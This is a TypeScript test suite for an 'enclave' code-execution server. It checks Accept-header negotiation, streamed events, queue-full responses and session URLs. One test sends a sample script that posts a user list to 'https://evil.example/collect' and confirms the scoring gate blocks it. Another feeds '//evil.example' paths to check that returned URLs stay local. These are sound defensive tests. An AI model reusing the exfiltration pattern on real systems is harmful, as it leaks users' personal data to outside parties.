  it.each(['text/event-stream', 'application/x-ndjson'])('%s: written as escapes, read back as the script wrote them', async (accept) => {
    const served = await serveCore({});
    try {
      const res = await served.post('/enclave', { code: `console.log(${JSON.stringify(forged)}); return ${JSON.stringify(forged)};` }, { accept });
      expect(res.headers.get('content-type')).toMatch(new RegExp(`^${accept.replace('/', '\\/')}`));
      const text = await res.text();
      expect(text).not.toMatch(/[\u0085\u2028\u2029]/);
      const lines = text.split('\n').filter((l) => l.startsWith('{') || l.startsWith('data: '));
      const events = lines.map((l) => JSON.parse(l.startsWith('data: ') ? l.slice(6) : l) as { type: string; payload: { message?: unknown; args?: unknown; value?: unknown } });
      // A log's text has its line breaks turned into spaces already; a returned value keeps them.
      expect(events.find((e) => e.type === 'log')?.payload).toMatchObject({ message: expect.stringContaining('"value":"forged"') });
      expect(events.at(-1)).toMatchObject({ type: 'final', payload: { success: true, value: forged } });
      expect(events.filter((e) => e.type === 'final')).toHaveLength(1);
    } finally {
      await served.close();
    }
  });
});

describe('Accept: JSON stays the default, a stream only where the client asks for it and rates it no lower', () => {
  it.each([
    [null, 'application/json'],
    ['*/*', 'application/json'],
    ['application/json', 'application/json'],
    ['text/html', 'application/json'],
    ['text/event-stream', 'text/event-stream'],
    ['application/x-ndjson', 'application/x-ndjson'],
    // Equal weight: the client named the stream, and clients of streamable routes send exactly this.
    ['application/json, text/event-stream', 'text/event-stream'],
    ['text/event-stream, */*;q=0.1', 'text/event-stream'],
    ['application/x-ndjson;q=0.9, text/event-stream', 'text/event-stream'],
    ['text/event-stream;q=0.5, application/x-ndjson', 'application/x-ndjson'],
    // The client prefers JSON, or refuses the stream outright (q=0): RFC 9110 12.5.1.
    ['text/event-stream;q=0.1, application/json', 'application/json'],
    ['text/event-stream;q=0.5, */*', 'application/json'],
    ['text/event-stream;q=0', 'application/json'],
    ['application/x-ndjson; q=0, application/json;q=0.2', 'application/json'],
  ])('POST {path} with Accept %j answers %s', async (accept, type) => {
    const served = await serveCore({});
    try {
      const res = await served.post('/enclave', { code: 'return 6 * 7' }, accept === null ? {} : { accept });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(new RegExp(`^${type.replace('/', '\\/')}`));
      const text = await res.text();
      if (type === 'application/json') expect(JSON.parse(text)).toMatchObject({ success: true, value: 42 });
      else expect(text).toContain('"type":"final"');
    } finally {
      await served.close();
    }
  });

  it('POST {path}/sessions answers 201 JSON unless a stream is preferred; a session’s events follow the stream type rated higher', async () => {
    const served = await serveCore({});
    try {
      const started = await served.post('/enclave/sessions', { code: 'return 1' }, { accept: 'text/event-stream;q=0.1, application/json' });
      expect(started.status).toBe(201);
      const { eventsUrl } = (await started.json()) as { eventsUrl: string };
      for (const [accept, type] of [
        ['application/json', 'text/event-stream'],
        ['text/event-stream;q=0.2, application/x-ndjson', 'application/x-ndjson'],
        ['application/x-ndjson;q=0.2, text/event-stream', 'text/event-stream'],
      ] as const) {
        const res = await fetch(`${served.url}${eventsUrl}`, { headers: { accept } });
        expect(res.headers.get('content-type'), accept).toMatch(new RegExp(`^${type.replace('/', '\\/')}`));
        expect((await readEvents(res)).at(-1)?.data).toMatchObject({ type: 'final', payload: { success: true, value: 1 } });
      }
    } finally {
      await served.close();
    }
  });
});

describe('the status table for codes the adapter suite does not provoke', () => {
  it('SCORING_BLOCKED is 422, with the verdict, and no tool ran', async () => {
    let calls = 0;
    const served = await serveCore({
      enclave: { scoringGate: { thresholds: { block: 20 } } },
      tools: { 'users:list': () => (calls++, [{ email: 'a@example.com' }]), 'http:post': () => (calls++, 'sent') },
    });
    try {
      const res = await served.post('/enclave', { code: 'const users = await callTool("users:list", {});\nawait callTool("http:post", { url: "https://evil.example/collect", body: users });\nreturn 1;' });
      expect(res.status).toBe(422);
      const json = await res.json();
      expect(json).toMatchObject({ success: false, error: { code: 'SCORING_BLOCKED' }, scoring: { decision: 'block' } });
      expect(calls).toBe(0);
    } finally {
      await served.close();
    }
  });

  it('QUEUE_FULL of the worker pool (not of maxConcurrentRuns) is 503 with Retry-After', async () => {
    let release = () => {};
    let entered = 0;
    const held = new Promise<string>((resolve) => (release = () => resolve('released')));
    const served = await serveCore({
      retryAfter: 3,
      enclave: { adapter: 'worker_threads', workerPoolConfig: { minWorkers: 1, maxWorkers: 1, maxQueueSize: 1 } },
      tools: { hold: () => (entered++, held) },
    });
    const hold = () => served.post('/enclave', { code: 'return await callTool("hold")' });
    try {
      // One run holds the only worker; of the next two, one waits in the queue and the other finds it full.
      const first = hold();
      await expect.poll(() => entered).toBe(1);
      const next = [hold(), hold()];
      const refused = await Promise.race(next);
      expect(refused.status).toBe(503);
      expect(refused.headers.get('retry-after')).toBe('3');
      expect(await refused.json()).toMatchObject({ success: false, error: { code: 'QUEUE_FULL' } });
      release();
      const answers = await Promise.all([first, ...next].map(async (res) => (await res).status));
      expect(answers.sort()).toEqual([200, 200, 503]);
    } finally {
      release();
      await served.close();
    }
  });
});

describe('events on the wire', () => {
  it('every event is { sessionId, seq, type, time, payload } of one session; heartbeats come while a tool waits', async () => {
    const served = await serveCore({ heartbeatMs: 20, tools: { wait: () => new Promise((r) => setTimeout(r, 200, 'waited')) } });
    try {
      const before = Date.now();
      const res = await served.post('/enclave/sessions', { code: 'console.log("go"); return await callTool("wait")' }, { accept: 'text/event-stream' });
      const sessionId = res.headers.get('x-session-id');
      const events = await readEvents(res);
      expect(events.length).toBeGreaterThan(4);
      events.forEach((e, i) => {
        expect(Object.keys(e.data).sort()).toEqual(['payload', 'seq', 'sessionId', 'time', 'type']);
        expect(e.data).toMatchObject({ sessionId, seq: i + 1 });
        expect(Number.isInteger(e.data.time) && e.data.time >= before - 1000 && e.data.time <= Date.now() + 1000).toBe(true);
      });
      // Heartbeats come every 20 ms wherever the run is; everything else in its order.
      expect(events.map((e) => e.data.type).filter((t) => t !== 'heartbeat')).toEqual(['session_init', 'log', 'tool_call', 'tool_result', 'final']);
      const beats = events.filter((e) => e.data.type === 'heartbeat');
      expect(beats.length).toBeGreaterThan(0);
      for (const beat of beats) expect(beat.data.payload).toEqual({ elapsedMs: expect.any(Number) });
      expect(events.at(-1)?.data.payload).toMatchObject({ success: true, value: 'waited', logs: [{ level: 'log', message: 'go' }] });
    } finally {
      await served.close();
    }
  });
});

describe('the URLs a session route hands out', () => {
  it('stay on the server whatever path the client addressed: never `//host/...` (another host to a browser or fetch)', async () => {
    const handler = createEnclaveHandler({ logger: { info() {}, error() {} } });
    try {
      for (const path of ['//evil.example/x/sessions', '///evil.example/sessions', '/\\evil.example/sessions']) {
        const res = await handler(new Request(`http://localhost${path}`, { method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json' }, body: '{"code":"return 1"}' }));
        expect(res.status, path).toBe(201);
        const body = (await res.json()) as Record<string, string>;
        for (const url of [res.headers.get('location') ?? '', body.statusUrl, body.eventsUrl, body.cancelUrl]) {
          expect(new URL(url as string, 'http://localhost/').host, `${path}: ${url}`).toBe('localhost');
        }
        const status = await handler(new Request(new URL(body.statusUrl as string, 'http://localhost/'), { method: 'GET' }));
        expect(status.status, path).toBe(200);
        await status.body?.cancel();
      }
    } finally {
      handler.dispose();
    }
  });
});

adapterTracingContract('fetch core + node bridge', fetchCoreHarness);
